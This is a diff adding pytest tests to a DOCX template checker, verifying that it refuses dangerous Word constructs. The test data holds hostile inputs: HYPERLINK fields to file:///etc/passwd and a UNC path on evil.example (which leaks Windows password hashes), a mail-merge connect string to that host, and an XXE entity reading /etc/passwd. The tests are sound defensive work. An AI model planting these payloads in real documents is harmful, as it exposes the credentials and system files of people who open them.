@@ -197,3 +197,57 @@ def test_the_built_in_templates_pass_the_checks() -> None:
         if file.is_file():
             docx_package.check_template(read_docx_parts(file.read_bytes(), str(file)),
                                         str(file))
+
+
+@pytest.mark.parametrize(("instruction", "words"), [
+    (' HYPERLINK "file:///etc/passwd" ', ("HYPERLINK", "file:///etc/passwd")),
+    (' HYPERLINK "\\\\\\\\evil.example\\\\share\\\\brief.docx" \\o "Brief" ',
+     ("HYPERLINK", "evil.example")),  # a UNC path: Windows sends the user's password hash
+    (" HYPERLINK javascript:alert(1) ", ("javascript:",)),
+    (" MACROBUTTON FileOpen Hier klicken ", ("MACROBUTTON",)),
+    (' PRINT "%!PS showpage" ', ("PRINT",)),
+])
+def test_fields_that_open_local_files_or_run_commands_are_refused(
+        instruction: str, words: tuple[str, ...]) -> None:
+    """A HYPERLINK field is held to the rules of a hyperlink relationship."""
+    name = "field-" + str(abs(hash(instruction)) % 10_000)
+    _refused(name, _body(_complex_field(instruction)), *words)
+
+
+def test_hyperlink_fields_to_the_web_and_bookmarks_are_still_accepted() -> None:
+    parts = _body(_complex_field(' HYPERLINK "https://www.example.org/presse" ')
+                  + _complex_field(' HYPERLINK \\l "oben" ')
+                  + _complex_field(" MACROBUTTON FileOpen x "))
+    _refused("web-fields", parts, "MACROBUTTON")  # only the command is refused
+    parts = _body(_complex_field(' HYPERLINK "https://www.example.org/presse" ')
+                  + _complex_field(' HYPERLINK \\l "oben" '))
+    _template("web-fields-fine", parts)
+    assert _render("web-fields-fine").startswith(b"PK")
+
+
+def test_mail_merge_settings_are_refused() -> None:
+    """Word asks the database the settings name when the document is opened (a file
+    share of a stranger's server included)."""
+    parts = _parts()
+    merge = (b'<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/>'
+             b'<w:dataType w:val="native"/><w:connectString w:val="Provider=Microsoft.ACE.'
+             b'OLEDB.12.0;Data Source=\\\\evil.example\\share\\x.mdb"/><w:query '
+             b'w:val="SELECT * FROM `x`"/></w:mailMerge>')
+    settings = parts["word/settings.xml"]
+    close = settings.index(b">", settings.index(b"<w:settings")) + 1
+    parts["word/settings.xml"] = settings[:close] + merge + settings[close:]
+    _refused("mail-merge", parts, "settings.xml", "mailMerge")
+
+
+def test_a_document_type_declaration_in_a_part_of_another_name_or_encoding_is_refused(
+        ) -> None:
+    """A reader parses a part by its content type, not its name."""
+    parts = _parts()
+    parts["word/header9.bin"] = (
+        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY s SYSTEM "file:///etc/passwd">]>'
+        b"<x>&s;</x>")
+    _refused("dtd-bin", parts, "word/header9.bin", "DOCTYPE")
+    parts = _parts()
+    parts["customXml/item1.xml"] = ('<?xml version="1.0" encoding="UTF-32"?><!DOCTYPE a>'
+                                    "<a/>").encode("utf-32")
+    _refused("dtd-utf32", parts, "customXml/item1.xml", "DOCTYPE")
